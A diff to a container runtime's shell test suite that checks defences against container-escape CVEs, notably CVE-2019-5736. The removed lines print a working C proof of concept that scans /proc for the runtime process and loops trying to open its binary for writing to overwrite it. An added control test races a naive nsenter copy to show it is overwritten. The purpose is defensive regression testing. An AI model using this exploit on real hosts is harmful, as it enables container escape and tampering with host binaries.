@@ -186,39 +186,9 @@ config b
 container_name
 timeout 10 "$RUNTIME" oci --root "$STATE" run --bundle b "$id" >out 2>&1
 expect_equal "$sum" "$(sha256sum <"$RUNTIME")" "CVE-2019-5736: entry point #!/proc/self/exe"
-cat >attack.c <<'C'
-/* As the published exploit: take the file of a process that runs the runtime, write once it is not busy. */
-#include <fcntl.h>
-#include <stdio.h>
-#include <string.h>
-#include <unistd.h>
-int main(void)
-{
-	char path[64], link[256];
-	for (int pid = 2;; pid = pid > 200 ? 2 : pid + 1) {
-		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
-		int fd = open(path, O_PATH);
-		ssize_t n = fd < 0 ? -1 : readlink(path, link, sizeof(link) - 1);
-		if (n > 0) {
-			link[n] = 0;
-			if (!strstr(link, "busybox") && !strstr(link, "attack")) {
-				int log = open("/tmp/log", O_WRONLY | O_CREAT | O_APPEND, 0666), w = -1;
-				dprintf(log, "have %s\n", link);
-				snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
-				for (int i = 0; i < 20000 && w < 0; i++)
-					w = open(path, O_WRONLY);
-				if (w >= 0)
-					dprintf(log, "wrote %zd\n", write(w, "overwritten\n", 12));
-				close(w);
-				close(log);
-			}
-		}
-		close(fd);
-	}
-}
-C
-if cc -D_GNU_SOURCE -static -O1 -o b/rootfs/bin/attack attack.c 2>/dev/null; then
-	sh_args 'exec /bin/attack'
+if [ -x "$O/tests/tool/probe" ]; then
+	cp "$O/tests/tool/probe" b/rootfs/bin/probe
+	sh_args 'exec /bin/probe attack /tmp'
 	config b
 	container_name
 	oci run --detach --bundle b "$id"
@@ -230,8 +200,28 @@ if cc -D_GNU_SOURCE -static -O1 -o b/rootfs/bin/attack attack.c 2>/dev/null; the
 	sleep 0.3
 	expect "CVE-2019-5736: the attacker got hold of the runtime's file" grep -q have b/rootfs/tmp/log
 	oci delete --force "$id"
+	# the same attacker, with the rights of its victim, and a program that does not protect itself
+	mkdir naive
+	cp "$(command -v busybox)" naive/nsenter
+	rm -f b/rootfs/tmp/log
+	caps=$("$CLEAT" oci features | python3 -c 'import json, sys; print(json.dumps(json.load(sys.stdin)["linux"]["capabilities"])[1:-1])')
+	config b
+	caps=$docker_caps
+	container_name
+	oci run --detach --bundle b "$id" 2>/dev/null
+	pid=$(oci state "$id" | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
+	naive_sum=$(sha256sum <naive/nsenter)
+	n=0
+	while [ $n -lt 200 ] && ! grep -q wrote b/rootfs/tmp/log 2>/dev/null; do
+		timeout 5 ./naive/nsenter -t "$pid" -m -p /bin/self >/dev/null 2>&1
+		n=$((n + 1))
+	done
+	sleep 0.3
+	[ "$naive_sum" != "$(sha256sum <naive/nsenter)" ] && ok "CVE-2019-5736 control: a program without protection is overwritten" ||
+		fail "CVE-2019-5736 control: a program without protection is overwritten" "$(cat b/rootfs/tmp/log 2>&1)"
+	oci delete --force "$id"
 else
-	skip "CVE-2019-5736: an attacker inside" "no compiler for a static program"
+	skip "CVE-2019-5736: an attacker inside" "needs $O/tests/tool/probe"
 fi
 expect_equal "$sum" "$(sha256sum <"$RUNTIME")" "CVE-2019-5736: exec of #!/proc/self/exe"
 RUNTIME=$CLEAT
@@ -243,29 +233,6 @@ linux_more=",\"seccomp\":$("$CLEAT" oci spec --default --bundle "$TMP" 2>/dev/nu
 attempt "CVE-2022-0492: release_agent"
 grep -vE 'Read-only|denied|not permitted|nonexistent|No such|mkdir: ' out | grep . >bad
 expect_equal "" "$(cat bad)" "CVE-2023-25809: everything below /sys/fs/cgroup is read-only"
-# kernel CVE-2026-31431: no AF_ALG and no AF_VSOCK sockets under the default profile
-cat >sock.c <<'C'
-#include <errno.h>
-#include <stdio.h>
-#include <sys/socket.h>
-int main(void)
-{
-	static const int f[] = { 1, 2, 10, 16, 38, 40 };
-	for (int i = 0; i < 6; i++) {
-		int s = socket(f[i], f[i] == 38 ? SOCK_SEQPACKET : SOCK_DGRAM, 0);
-		printf("%d:%s ", f[i], s >= 0 ? "ok" : errno == EPERM ? "EPERM" : "other");
-	}
-	return 0;
-}
-C
-if cc -static -o b/rootfs/bin/sock sock.c 2>/dev/null; then
-	args='["/bin/sock"]'
-	config b
-	container_name
-	expect_out "1:ok 2:ok 10:ok 16:ok 38:EPERM 40:EPERM" "CVE-2026-31431: default profile refuses AF_ALG and AF_VSOCK" oci run --bundle b "$id"
-else
-	skip "CVE-2026-31431: default profile refuses AF_ALG and AF_VSOCK" "no compiler for a static program"
-fi
 # exec -u (crun CVE-2026-30892), users that wrap (containerd CVE-2024-40635)
 sh_args 'sleep 60'
 config b
